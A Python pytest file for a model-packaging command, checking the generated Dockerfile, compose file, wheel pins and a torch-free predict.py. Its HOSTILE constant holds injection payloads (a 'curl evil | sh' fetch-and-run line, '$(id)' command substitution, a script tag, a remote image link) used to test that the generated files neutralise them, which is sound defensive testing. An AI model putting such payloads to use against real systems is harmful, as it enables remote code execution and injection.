"""``samo package``: what is in the folder, what it refuses, and that it runs without torch."""

from __future__ import annotations

import functools
import hashlib
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import tiny_onnx as tiny
import yaml
from tokenizers import Tokenizer, models, pre_tokenizers

from samo.deploy import package as module
from samo.deploy.distribution import installed, pinned
from samo.deploy.licence import licence_of, licence_terms
from samo.deploy.package import LISTING, Packaged, package
from samo.deploy.package_files import markdown, slug_of
from samo.errors import EnvironmentProblem, RunError, SettingsError
from samo.lazy import EXTRAS
from samo.modalities import released_files
from samo_cli.main import main

HOSTILE = 'x"; RUN curl evil | sh\n$(id) `id` <script>alert(1)</script> | ![](http://evil) # ${PATH} \u202e'
COMPOSE_KEYS = {
    "build", "image", "environment", "ports", "read_only", "tmpfs", "cap_drop", "security_opt", "pids_limit",
    "mem_limit", "init", "stop_grace_period", "restart", "healthcheck",
}  # fmt: skip
INSTRUCTIONS = {
    "FROM", "WORKDIR", "COPY", "RUN", "ENV", "USER", "EXPOSE", "STOPSIGNAL", "HEALTHCHECK", "ENTRYPOINT",
}  # fmt: skip


PINNED = functools.cache(pinned)


def instructions(text: str) -> list[tuple[str, str]]:
    """A Dockerfile as (instruction, arguments), its continued lines joined."""
    lines = [line for line in text.splitlines() if not line.startswith("#")]
    return [
        (line.split(None, 1)[0], " ".join(line.split()[1:]))
        for line in "\n".join(lines).replace("\\\n", " ").splitlines()
        if line.strip()
    ]


@pytest.fixture(scope="module")
def speech(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tiny.write(tmp_path_factory.mktemp("model") / "tiny.onnx")


@pytest.fixture(scope="module")
def made(speech: Path, tmp_path_factory: pytest.TempPathFactory) -> Packaged:
    return package(speech, tmp_path_factory.mktemp("made") / "package")


@pytest.fixture
def same_installation(made: Packaged, monkeypatch: pytest.MonkeyPatch) -> None:
    """Packages take the wheel and the versions of ``made``, which would come out the same."""
    wheels = made.path / "wheels"
    monkeypatch.setattr(module, "write_wheel", lambda folder, about: shutil.copytree(wheels, folder))
    monkeypatch.setattr(module, "pinned", PINNED)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    facts = {**tiny.FACTS, "name": HOSTILE, "dataset": HOSTILE, "scores": [HOSTILE]}
    return package(tiny.write(root / "x.onnx", facts=facts), root / "package").path


def test_what_is_in_it(made: Packaged) -> None:
    assert made.model == "tiny.onnx"
    assert {*made.files} == {
        ".dockerignore", "Dockerfile", "LICENSE.md", "MODEL_CARD.md", "README.md", "compose.yaml", "examples/call.py",
        "examples/call.sh", "examples/expected.json", "examples/loud.wav", "examples/quiet.wav", "predict.py",
        "requirements-serve.txt", "requirements.txt", "tiny.onnx", "wheels/samo_emotion-0.1.0-py3-none-any.whl",
    }  # fmt: skip
    assert json.loads((made.path / LISTING).read_text())["files"] == made.files


@pytest.mark.usefixtures("same_installation")
def test_figures_of_another_file_are_noticed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file = tiny.write(tmp_path / "tiny.onnx")
    beside = tmp_path / "tiny.export.json"
    for number, (digest, noticed) in enumerate([
        (hashlib.sha256(file.read_bytes()).hexdigest(), False), ("0" * 64, True), (None, False),
    ]):  # fmt: skip
        beside.write_text(json.dumps({"sha256": digest} if digest else {}))
        package(file, tmp_path / f"package{number}")
        assert (
            f"{beside} is of another file than {file}: its figures do not count" in capsys.readouterr().err
        ) == noticed


@pytest.mark.usefixtures("same_installation")
def test_a_card_of_an_earlier_version_is_packaged_without_places(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    card = "# Model card: tiny\n\n## How to reproduce\n\n```sh\nsamo train --data-root /home/me/clips\n```\n"
    noticed = "old.onnx was exported by an earlier version: the card in it names folders"
    for stem, given in (("old", card), ("new", card.replace("/home/me/", ""))):
        folder = package(tiny.write(tmp_path / f"{stem}.onnx", card=given), tmp_path / stem).path
        assert (folder / "MODEL_CARD.md").read_text() == card.replace("/home/me/", "")
        assert (noticed in capsys.readouterr().err) == (stem == "old")


def test_the_same_file_gives_the_same_bytes(made: Packaged, speech: Path, tmp_path: Path) -> None:
    again = package(speech, tmp_path / "elsewhere")
    assert again.files == made.files
    assert (again.path / LISTING).read_bytes() == (made.path / LISTING).read_bytes()


@pytest.mark.parametrize("which", ["made", "hostile"])
def test_the_dockerfile(which: str, request: pytest.FixtureRequest) -> None:
    found = request.getfixturevalue(which)
    folder = found if isinstance(found, Path) else found.path
    steps = instructions((folder / "Dockerfile").read_text())
    named = [name for name, _ in steps]
    assert set(named) == INSTRUCTIONS
    version = f"{sys.version_info.major}.{sys.version_info.minor}"
    bases = [rest.split(" AS ")[0] for name, rest in steps if name == "FROM"]
    assert bases == [f"python:{version}-slim-bookworm"] * 2
    last = steps[max(k for k, name in enumerate(named) if name == "FROM") :]
    final = dict(last)
    assert final["USER"] == "10001:10001"
    assert [name for name, _ in last].index("USER") > max(k for k, (name, _) in enumerate(last) if name == "RUN")
    assert "pip uninstall" in final["RUN"]
    assert "pip install" not in final["RUN"]
    health = json.loads(final["HEALTHCHECK"].split("CMD ")[1])
    assert health[:2] == ["python", "-c"]
    compile(health[2], "health", "exec")
    assert "http://127.0.0.1:8000/healthz" in health[2]
    command = json.loads(final["ENTRYPOINT"])
    assert command[:2] == ["samo", "serve"]
    assert "--insecure" not in command
    assert "SAMO_API_KEY" not in final["ENV"]
    for name, rest in steps:
        assert "evil" not in rest.replace(slug_of(HOSTILE), "")
        if name == "RUN":
            shlex.split(rest)
        if name == "COPY" and "--from=build" not in rest:
            assert all((folder / place).exists() for place in rest.split()[:-1])
    kept = {line[1:] for line in (folder / ".dockerignore").read_text().splitlines() if line.startswith("!")}
    copied = {place for name, rest in steps if name == "COPY" and "--from" not in rest for place in rest.split()[:-1]}
    assert kept == copied


@pytest.mark.parametrize("which", ["made", "hostile"])
def test_the_compose_file(which: str, request: pytest.FixtureRequest) -> None:
    found = request.getfixturevalue(which)
    folder = found if isinstance(found, Path) else found.path
    file = yaml.safe_load((folder / "compose.yaml").read_text())
    assert file.keys() == {"name", "services"}
    assert re.fullmatch(r"[a-z0-9][a-z0-9_-]*", file["name"])
    (service,) = file["services"].values()
    assert service.keys() == COMPOSE_KEYS
    assert service["read_only"] is True
    assert service["tmpfs"] == ["/tmp:size=256m,mode=1777"]
    assert service["cap_drop"] == ["ALL"]
    assert service["security_opt"] == ["no-new-privileges:true"]
    assert service["ports"] == ["127.0.0.1:8000:8000"]
    assert service["environment"]["SAMO_API_KEY"].startswith("${SAMO_API_KEY:?")
    assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*:[0-9.]+", service["image"])
    assert service["healthcheck"]["test"][:3] == ["CMD", "python", "-c"]
    assert "/healthz" in service["healthcheck"]["test"][3]


def test_hostile_names_mean_nothing(hostile: Path) -> None:
    for path in hostile.rglob("*"):
        if path.suffix in (".md", ".yaml", ".py", ".sh", "") and path.is_file():
            text = path.read_text()
            assert "<script>" not in text, path
            assert "\u202e" not in text, path
            assert not re.search(r"(?<!\\)!\[", text), path
            assert path.suffix == ".md" or "evil" not in path.name + text.replace(slug_of(HOSTILE), ""), path
    compile((hostile / "predict.py").read_text(), "predict.py", "exec")
    compile((hostile / "examples" / "call.py").read_text(), "call.py", "exec")


def test_slugs_and_markdown() -> None:
    assert slug_of("Grid/cell 01_Ä.x") == "grid-cell-01-x"
    assert slug_of("'$(id)'") == "id"
    assert slug_of("日本") == "model"
    assert len(slug_of("a" * 500)) == 60
    assert markdown("a\n# b <i> [x](y) `z`") == r"a \# b \<i\> \[x\](y) \`z\`"


def test_versions_are_those_installed_and_torch_is_not_among_them(made: Packaged) -> None:
    from importlib.metadata import version

    wheel, *lines = (made.path / "requirements.txt").read_text().splitlines()
    assert (made.path / wheel).is_file()
    named = dict(line.split("==") for line in lines)
    assert named["numpy"] == np.__version__
    assert all(version(name) == pinned for name, pinned in named.items())
    assert {"onnxruntime", "soundfile", "soxr", "tokenizers", "pydantic", "typer", "rich"} <= named.keys()
    # What they need in turn.
    assert {"pydantic-core", "pycparser", "mdurl", "protobuf"} <= named.keys()
    of_tokenizers = {"fsspec"}
    assert not {name.replace("-", "_") for name in named} & (
        {*EXTRAS["train"], "scikit_learn", *EXTRAS["serve"]} - of_tokenizers
    )
    first, *served = (made.path / "requirements-serve.txt").read_text().splitlines()
    assert first == "-r requirements.txt"
    assert {"fastapi", "uvicorn", "prometheus-client"} <= {line.split("==")[0] for line in served}


def test_a_package_that_is_not_installed_cannot_be_pinned() -> None:
    with pytest.raises(EnvironmentProblem, match="no-such-package-samo is not installed") as caught:
        pinned(["no-such-package-samo>=1"], "serve")
    assert caught.value.hint == 'pip install "samo-emotion[serve]"'
    assert pinned(['no-such-package-samo; python_version < "3"']) == {}


def test_the_wheel_is_whole(made: Packaged) -> None:
    with zipfile.ZipFile(next((made.path / "wheels").iterdir())) as wheel:
        names = wheel.namelist()
        metadata = wheel.read("samo_emotion-0.1.0.dist-info/METADATA").decode()
    assert {"samo/__init__.py", "samo_audio/py.typed", "samo_cli/main.py", "samo_text/presets/textcnn.toml"} <= {*names}
    assert not [name for name in names if "__pycache__" in name]
    assert f"Requires-Dist: {installed().requires[0]}\n" in metadata
    assert 'Requires-Dist: fastapi>=0.115; extra == "serve"\n' in metadata
    assert not re.search(r"Requires-Dist: torch[^;]*$", metadata, re.MULTILINE)


def test_what_a_licence_means_for_the_weights() -> None:
    assert licence_of("audio", "ravdess")[0] == "CC BY-NC-SA 4.0"
    assert licence_of("audio", "folder") == licence_of("audio", "mine") == ("", "")
    found = " ".join(licence_terms("CC BY-NC-SA 4.0"))
    assert all(mark in found for mark in ("(BY)", "(NC)", "(SA)"))
    assert "(ND)" not in found
    assert "(NC)" not in " ".join(licence_terms("CC BY 4.0"))
    assert "public domain" in licence_terms("CC0-1.0 (generated)")[0]
    assert "does not know the licence" in licence_terms("")[0]


@pytest.mark.usefixtures("same_installation")
def test_nothing_is_replaced_but_a_package_and_only_with_leave(speech: Path, tmp_path: Path) -> None:
    target = tmp_path / "package"
    target.mkdir()
    (target / "precious.txt").write_text("mine")
    with pytest.raises(SettingsError, match="exists"):
        package(speech, target)
    with pytest.raises(SettingsError, match="it is no package"):
        package(speech, target, overwrite=True)
    (target / "precious.txt").unlink()
    package(speech, target)
    (target / "README.md").write_text("old")
    with pytest.raises(SettingsError, match="exists"):
        package(speech, target)
    package(speech, target, overwrite=True)
    assert (target / "README.md").read_text() != "old"
    (target / "examples" / "mine.wav").write_text("mine")
    with pytest.raises(SettingsError, match=r"examples/mine\.wav does not belong"):
        package(speech, target, overwrite=True)
    (target / "examples" / "mine.wav").unlink()
    (target / LISTING).write_text("[]")
    with pytest.raises(SettingsError, match="it is no package"):
        package(speech, target, overwrite=True)
    (tmp_path / "link").symlink_to(target)
    with pytest.raises(SettingsError, match="is no folder"):
        package(speech, tmp_path / "link", overwrite=True)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["link", "package"]


def test_nothing_is_left_of_what_failed(speech: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(module, "write_wheel", full)
    with pytest.raises(Exception, match="space"):
        package(speech, tmp_path / "package")
    assert not [*tmp_path.iterdir()]


def status(*argv: object) -> int | str | None:
    with pytest.raises(SystemExit) as left:
        main(["package", *map(str, argv)])
    return left.value.code


@pytest.mark.usefixtures("same_installation")
def test_each_flag(speech: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any) -> None:
    assert status(speech, "-o", tmp_path / "a", "--json", "--threads", "1") == 0
    printed = json.loads(capsys.readouterr().out)
    assert (printed["path"], printed["model"], len(printed["files"])) == (str(tmp_path / "a"), "tiny.onnx", 16)
    assert status(speech, "--output", tmp_path / "a") == SettingsError.exit_status
    assert "or replace a package with --overwrite" in capsys.readouterr().err
    assert status(speech, "--output", tmp_path / "a", "--overwrite") == 0
    assert f"{tmp_path / 'a'}: 17 files" in capsys.readouterr().out
    assert status(speech, "-o", tmp_path / "b", "--data-root", tmp_path) == SettingsError.exit_status
    assert "--data-root acts only together with a run" in capsys.readouterr().err
    assert status("nowhere", "-o", tmp_path / "b", "--artifacts", tmp_path / "art") == RunError.exit_status
    assert not (tmp_path / "b").exists()
    seen: dict[str, Any] = {}
    monkeypatch.setattr(module, "load_exported", lambda model, **how: seen.update(how) or 1 / 0)
    assert status(speech, "-o", tmp_path / "b", "--threads", "3") == 70
    assert seen == {"threads": 3}


def run_predict(folder: Path, *calls: str) -> list[tuple[int, str]]:
    """Status and output of its ``predict.py`` with each of some words, by one Python that finds none of the extras.

    SAMO is that of the wheel.
    """
    wheel = next((folder / "wheels").iterdir())
    refuse = (
        "import contextlib, io, json, runpy, sys\n"
        "class Refused:\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        f"        if name.partition('.')[0] in {{'pandas', *{sorted(sum(EXTRAS.values(), ()))!r}}}:\n"
        "            raise ModuleNotFoundError(name, name=name)\n"
        "sys.meta_path.insert(0, Refused())\n"
        "found = []\n"
        "for word in sys.argv[1:]:\n"
        "    sys.argv, status, printed = ['predict.py', word], 0, io.StringIO()\n"
        "    try:\n"
        "        with contextlib.redirect_stdout(printed):\n"
        "            runpy.run_path('predict.py', run_name='__main__')\n"
        "    except SystemExit as left:\n"
        "        status = left.code or 0\n"
        "    found.append((status, printed.getvalue()))\n"
        "print(json.dumps(found))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", refuse, *calls],
        cwd=folder, env={**os.environ, "PYTHONPATH": str(wheel)}, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    return [(status, printed) for status, printed in json.loads(done.stdout)]


@pytest.mark.parametrize("modality", ["audio", "text"])
def test_predict_py_without_torch(modality: str, made: Packaged, tmp_path: Path) -> None:
    folder = made.path
    if modality == "text":
        tokenizer = Tokenizer(models.WordLevel({"[UNK]": 1, "thank": 2}, unk_token="[UNK]"))
        tokenizer.pre_tokenizer = pre_tokenizers.Whitespace()
        tokens = {"kind": "tokenizers", "tokenizer": tokenizer.to_str(), "truncation_side": "right"}
        reading = {"max_tokens": 6, "pad_id": 0, "tokens": tokens}
        folder = package(tiny.write(tmp_path / "words.onnx", "text", reading=reading), tmp_path / "package").path
    before = sorted(folder.rglob("*"))
    given = "examples/loud.wav" if modality == "audio" else "Thank you so much, this made my day!"
    (status, checked), (answer_status, answered) = run_predict(folder, "--check", given)
    assert (status, answer_status) == (0, 0)
    assert checked.startswith("ok: ")
    expected = json.loads((folder / "examples" / "expected.json").read_text())["examples"][0]
    found = json.loads(answered)
    assert found["label"] == expected["label"]
    task = expected["tasks"]["emotion"]["probabilities"]
    assert found["probabilities"] == pytest.approx(task, abs=1e-4)
    assert sorted(folder.rglob("*")) == before


def test_predict_py_sees_a_different_answer(made: Packaged, tmp_path: Path) -> None:
    folder = tmp_path / "copy"
    shutil.copytree(made.path, folder)
    file = folder / "examples" / "expected.json"
    expected = json.loads(file.read_text())
    shares = expected["examples"][1]["tasks"]["emotion"]["probabilities"]
    shares["calm"] += 0.02
    file.write_text(json.dumps(expected))
    ((status, checked),) = run_predict(folder, "--check")
    assert status == 1
    assert checked.splitlines()[0].startswith("ok: loud.wav")
    assert checked.splitlines()[1].startswith("DIFFERENT: quiet.wav: calm, 0.02")


@pytest.mark.usefixtures("same_installation")
def test_a_released_model_by_its_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, made: Packaged) -> None:
    # What the model answers to the examples is its own tests' business, and slow.
    monkeypatch.setattr(module, "_expected", lambda *given: {})
    found = package("samo-speech", tmp_path / "package", artifacts=tmp_path)
    shipped = released_files()["samo-speech"].read_bytes()
    assert (found.path / found.model).read_bytes() == shipped
